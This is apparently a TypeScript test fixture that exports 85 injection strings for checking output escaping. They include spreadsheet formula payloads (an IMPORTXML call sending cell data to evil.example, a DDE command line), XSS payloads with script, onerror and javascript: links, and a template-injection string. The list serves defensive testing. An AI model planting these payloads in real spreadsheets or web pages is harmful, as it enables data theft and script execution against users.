/** Texts that do harm where a spreadsheet takes them for a formula, or a page for its own markup. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example","開く")',
  '=IMPORTXML("https://evil.example/?"&A1,"//a")',
  '=IMAGE("https://evil.example/x.png")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '+81-3-5276-5850',
  '-1+1',
  '@SUM(1,1)',
  '−1+1',
] as const;
/** What people, programs and attackers put before it. */
const BEFORE = ['', ' ', '　', '\t', '\u200b', "'"] as const;
const FULL_WIDTH = ['＝1+1', '＋1+1', '－1+1', '＠SUM(1)', ' ＝1+1'] as const;
const MARKUP = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">開く</a>',
  '<style>*{display:none}</style>',
  '<!--',
  ']]><b>',
  '&lt;b&gt;&amp;',
  '<?= 1 ?>',
  '<?!= 1 ?>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a page that took it for a template would fill it in.
  '${1+1}',
  '{{constructor.constructor("alert(1)")()}}',
  '__proto__',
  '\u202e<b>',
  '0x1F',
  '1e3',
  'TRUE',
] as const;

/** 85 of them. */
export const PAYLOADS: readonly string[] = [
  ...FORMULAS.flatMap((formula) => BEFORE.map((before) => `${before}${formula}`)),
  ...FULL_WIDTH,
  ...MARKUP,
];
